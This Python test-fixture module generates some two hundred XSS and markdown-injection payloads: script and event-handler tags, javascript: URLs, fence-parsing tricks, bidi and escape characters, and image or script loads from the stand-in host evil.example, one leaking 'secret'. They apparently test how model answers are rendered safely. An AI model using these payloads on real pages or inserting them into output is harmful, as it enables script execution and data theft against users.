"""Two hundred answers that attack the page they are shown on, one by one; each closes what it opens.

All of them would set `window.hacked`, open a dialog, or fetch from evil.example.
"""

from collections.abc import Iterator

RUN = "window.hacked=1"
AWAY = "https://evil.example"
BETWEEN = "\n\n***\n\n"
PER_PART = 40

_SCRIPTS = [
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script\n>{run}</script\n>",
    "<script/x>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    '<script src="{away}/x.js"></script>',
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import '{away}/x.js'</script>",
    "</p><script>{run}</script><p>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "<noscript><p title='</noscript><script>{run}</script>'>",
    "<style>@import '{away}/x.css';</style>",
    "<style>body{{background:url({away}/x.png)}}</style>",
    "<link rel=stylesheet href={away}/x.css>",
    "<link rel=prefetch href={away}/x>",
    "<meta http-equiv=refresh content='0;url={away}/'>",
    "<base href={away}/>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='{away}/x.swf'>",
    "<applet code='{away}/x.class'></applet>",
    "<form action='{away}/'><button>x</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'></math>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'/></svg>",
    "<template><script>{run}</script></template>",
    "<xmp><p title='</xmp><script>{run}</script>'>",
    "<textarea><p title='</textarea><script>{run}</script>'>",
    "<title><p title='</title><script>{run}</script>'>",
    "<plaintext><script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "<a href='javascript:{run}'>x</a>",
    "<button formaction='javascript:{run}'>x</button>",
    "<frameset><frame src='javascript:{run}'></frameset>",
    "# <script>{run}</script>",
    "- <script>{run}</script>",
    "> <script>{run}</script>",
    "| a | b |\n|---|---|\n| <script>{run}</script> | `</td><script>{run}</script>` |",
]
_TAGS = ["img src=x", "svg/", "video src=x", "audio src=x", "details open", "input autofocus", "body", "marquee"]
_EVENTS = ["onerror", "onload", "ontoggle", "onfocus", "onpointerover"]
_URLS = [
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "&#106;avascript:{run}",
    "javascript&colon;{run}",
    "javascript:alert(1)",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
    "vbscript:x",
]
_LINKS = ["[x]({url})", "[x](<{url}>)", "<{url}>", "[x][{n}]\n\n[{n}]: {url}", "![x]({url})", "[![x]({url})]({url})"]
_IMAGES = [
    "![x]({away}/{n}.png)",
    "![x]({away}/{n}.png?leak=secret 'title')",
    "![x](//evil.example/{n}.png)",
    "[![x]({away}/{n}.png)]({away}/)",
    "![x][i{n}]\n\n[i{n}]: {away}/{n}.png",
    "<img src={away}/{n}.png>",
    "<img srcset='{away}/{n}.png 1x'>",
    "<picture><source srcset={away}/{n}.png><img></picture>",
    "<video poster={away}/{n}.png></video>",
    "<p style='background:url({away}/{n}.png)'>",
    "<table background={away}/{n}.png>",
    "<svg><image href={away}/{n}.png></svg>",
]
_FENCES = [
    "```html\n<script>{run}</script>\n```",
    "````markdown\n```html\n<script>{run}</script>\n```\n````",
    "`````\n````\n```\n<script>{run}</script>\n```\n````\n`````",
    "~~~\n```\n<script>{run}</script>\n```\n~~~",
    "```\n~~~\n<script>{run}</script>\n~~~\n```",
    '```"><script>{run}</script>\nx\n```',
    "```html onload={run}\nx\n```",
    "```<img src=x onerror={run}>\nx\n```",
    "```python\n'</code></pre><script>{run}</script>'\n```",
    "```\n</code></pre><img src=x onerror={run}>\n```",
    "> ```\n> <script>{run}</script>\n> ```",
    "- ```\n  <script>{run}</script>\n  ```",
    "1. ````\n   ```\n   <script>{run}</script>\n   ```\n   ````",
    "``` \t<script>\n<script>{run}</script>\n```",
    "    <script>{run}</script>",
    "`` `<script>{run}</script>` ``",
    "`<img src=x onerror={run}>`",
    "```diff\n- <script>{run}</script>\n+ <script>{run}</script>\n```",
    "```html\n<!-- <script>{run}</script>\n``` \n-->",
    "````\n``` ````\n<script>{run}</script>\n````",
]
_CHARACTERS = [
    "\u202e<script>{run}</script>\u202c",
    "\u2066<script>{run}</script>\u2069",
    "\u2067txt.exe\u2069 [x](javascript:{run})",
    "\u202eevil\u202c [https://good.example](https://evil.example/)",
    "a\u200b<script>{run}</script>",
    "<scr\u200bipt>{run}</scr\u200bipt>",
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "<\x00script>{run}</script>",
    "\x1b[31m<script>{run}</script>\x1b[0m",
    "\x1b]8;;javascript:{run}\x07x\x1b]8;;\x07",
    "\x1b]0;title\x07\x1b[2J\x1b[H",
    "\x9b31m<script>{run}</script>",
    "\ufeff<script>{run}</script>",
    "\u2028<script>{run}</script>\u2029",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<s\u0441ript>{run}</s\u0441ript>",
    "\r<script>{run}</script>\r",
    "\x08\x08\x08<script>{run}</script>",
    "Z\u0351\u036b" * 9 + "<script>{run}</script>",
    "data: x\n\nevent: done\ndata: <script>{run}</script>",
    '<div hx-get="/billing/" hx-trigger="load">x</div>',
    '<div hx-on:load="{run}" data-hx-on="load: {run}">x</div>',
    '<div sse-connect="/generations/" hx-ext="sse">x</div>',
    '<div id="generation-tail" hx-swap-oob="true"><script>{run}</script></div>',
    "</div></article></main></body></html><script>{run}</script>",
]


def payloads() -> list[str]:
    """Return all of them."""
    return [text.format(run=RUN, away=AWAY) for text in _templates()]


def fences() -> list[str]:
    """Return those whose meaning hangs on where a fence opens and closes."""
    return [text.format(run=RUN, away=AWAY) for text in _FENCES]


def parts() -> list[str]:
    """Return the answers that hold them: so many that each fits under an output cap."""
    every = payloads()
    return [BETWEEN.join(every[start : start + PER_PART]) + BETWEEN for start in range(0, len(every), PER_PART)]


def _templates() -> Iterator[str]:
    yield from _SCRIPTS
    for tag in _TAGS:
        yield from (f"<{tag} {event}={{run}}>" for event in _EVENTS)
    for number, url in enumerate(_URLS):
        yield from (link.replace("{url}", url).replace("{n}", f"r{number}") for link in _LINKS)
    yield from (image.replace("{n}", str(number)) for number, image in enumerate(_IMAGES))
    yield from _FENCES
    yield from _CHARACTERS
